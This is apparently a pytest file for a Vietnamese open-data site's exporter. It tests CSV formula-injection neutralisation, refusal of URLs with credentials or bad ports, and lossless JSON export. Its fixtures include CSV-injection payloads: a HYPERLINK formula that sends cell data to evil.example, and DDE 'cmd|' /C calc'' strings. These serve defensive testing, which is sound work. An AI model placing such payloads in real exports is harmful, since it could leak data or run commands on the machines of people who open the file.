"""Issue 11, class 6: exports. CSV cells that a spreadsheet would run as formulas are neutralised
(and /du-lieu/ says so), web addresses with credentials or impossible ports are refused, and the
JSON export gives back every record exactly as written (an empty text stays empty)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
import yaml
from bangvang.build import SiteBuild
from bangvang.publish.open_data_files import FORMULA_STARTS, _cell, write_open_data
from bangvang.text import nfc, parse_date
from bangvang.website.pages import SiteInfo
from helpers import DOCUMENT, ROOT, assert_refused, errors_for, make_project, where, write_data

DOCUMENT_FILE = "documents/chi-thi-34-ct-tw.yml"


def _build(data: Path, docs: Path = ROOT / "docs") -> SiteBuild:
    build = SiteBuild(root=ROOT, site=SiteInfo(), data_dir=data, docs_dir=docs)
    assert build.load() == []
    return build


def _csv(site: Path, kind: str) -> list[dict]:
    raw = (site / "du-lieu" / f"{kind}.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw, newline="")))


# ---------------------------------------------------------------------------------------------
# CSV formula injection
# ---------------------------------------------------------------------------------------------

FORMULAS = {
    "xa-b": "=HYPERLINK(\"http://evil.example/\"&A1;\"Xem\")",
    "xa-c": "+cmd|' /C calc'!A0",
    "xa-d": "-2+3+cmd|' /C calc'!A0",
    "xa-e": "@SUM(1+1)*cmd|' /C calc'!A0",
    "xa-f": "\t=1+1",
}


def test_csv_cells_that_start_a_formula_get_a_leading_quote(tmp_path):
    # (a JSON string is a YAML double-quoted scalar: the tab stays a tab)
    changes = {
        f"units/{uid}.yml": f"name: {json.dumps(value, ensure_ascii=False)}\nkind: xa\n"
        f"aliases: [{json.dumps(value, ensure_ascii=False)}, bình thường]\n"
        for uid, value in FORMULAS.items()
    }
    build = _build(write_data(tmp_path, changes))
    site = tmp_path / "site"
    write_open_data(build, site)
    rows = {r["id"]: r for r in _csv(site, "units")}
    for uid, value in FORMULAS.items():
        assert rows[uid]["name"] == "'" + value
        assert rows[uid]["aliases"] == "'" + value + "; bình thường"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    # the JSON keeps the values as written
    units = {u["id"]: u for u in json.loads((site / "du-lieu" / "units.json").read_text(encoding="utf-8"))}
    assert {uid: units[uid]["name"] for uid in FORMULAS} == FORMULAS


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (["=a", "b"], "'=a; b"),
        (None, ""),
        (dt.date(2021, 1, 15), "2021-01-15"),
        ([{"label": "=x"}], '[{"label": "=x"}]'),
    ],
)
def test_cell_neutralisation(value, cell):
    assert _cell(value) == cell


def test_open_data_page_says_how_cells_are_neutralised(tmp_path):
    build = _build(write_data(tmp_path))
    page = next(p for p in build.pages() if p.url == "du-lieu/")
    assert "OWASP" in page.html and "nháy đơn" in page.html and "công thức" in page.html


# ---------------------------------------------------------------------------------------------
# Web addresses
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url, words",
    [
        ("https://user:mat-khau@example.org/x", ("mật khẩu",)),
        ("https://token@example.org/x", ("tên đăng nhập",)),
        ("https://:secret@example.org/", ("mật khẩu",)),
        ("http://example.org:99999/", ("cổng",)),
        ("http://example.org:65536/", ("cổng",)),
        ("http://example.org:abc/", ("cổng",)),
        ("http://example.org:0/", ("cổng",)),
        ("http://example.org:-1/", ("cổng",)),
    ],
)
def test_url_with_credentials_or_impossible_port_is_refused(tmp_path, url, words):
    text = DOCUMENT.replace("https://example.org/chi-thi-34", url)
    _, errors = errors_for(tmp_path, {DOCUMENT_FILE: text})
    error = assert_refused(errors, DOCUMENT_FILE, where(text, url), "'url'", *words)
    assert "mat-khau" not in error.message and "secret" not in error.message and "token" not in error.message


@pytest.mark.parametrize("url", ["https://example.org:8443/a?b=c@d", "http://example.org:80/", "https://a.b/@user"])
def test_ordinary_urls_are_accepted(tmp_path, url):
    _, errors = errors_for(tmp_path, {DOCUMENT_FILE: DOCUMENT.replace("https://example.org/chi-thi-34", url)})
    assert errors == []


# ---------------------------------------------------------------------------------------------
# The JSON export is lossless
# ---------------------------------------------------------------------------------------------


def _same(written, exported, where: str) -> None:
    """A YAML value as written against its JSON export: dates as ISO, numbers written in a text
    field as text, keys with no value left out; everything else identical."""
    if isinstance(written, dict):
        assert isinstance(exported, dict), where
        kept = {k: v for k, v in written.items() if v is not None}
        assert set(kept) == set(exported) - ({"id"} if "id" not in kept else set()), where
        for key, value in kept.items():
            _same(value, exported[key], f"{where}.{key}")
    elif isinstance(written, list):
        assert isinstance(exported, list) and len(written) == len(exported), where
        for i, (a, b) in enumerate(zip(written, exported)):
            _same(a, b, f"{where}[{i}]")
    elif isinstance(written, dt.date):
        assert exported == written.isoformat(), where
    elif isinstance(written, str) and isinstance(exported, str) and exported != nfc(written):
        assert parse_date(written) is not None and parse_date(written).isoformat() == exported, where
    elif isinstance(exported, str) and not isinstance(written, str):
        assert exported == str(written) or exported == str(written).lower(), where
    else:
        assert exported == (nfc(written) if isinstance(written, str) else written), where


def test_json_export_gives_back_every_record_of_the_seed_and_extras(tmp_path):
    project = make_project(tmp_path / "project", extra=True)
    build = _build(project / "data", project / "docs")
    site = tmp_path / "site"
    write_open_data(build, site)
    exported = {
        kind: {r["id"]: r for r in json.loads((site / "du-lieu" / f"{kind}.json").read_text("utf-8"))}
        for kind in ("units", "people", "documents", "campaigns", "models", "awards", "reports")
    }
    checked = 0
    for file in sorted((project / "data").rglob("*.yml")):
        kind = file.relative_to(project / "data").parts[0]
        if kind == "vocab":
            continue
        written = yaml.safe_load(file.read_text(encoding="utf-8-sig"))
        _same(written, exported[kind][file.stem], file.name)
        checked += 1
    assert checked > 50
    sections = [s for r in exported["reports"].values() for s in r.get("sections", [])]
    assert any(s.get("text") == "" for s in sections), "`text: ''` stays an empty text, not null or missing"
    assert all(s.get("text", "") is not None for s in sections)
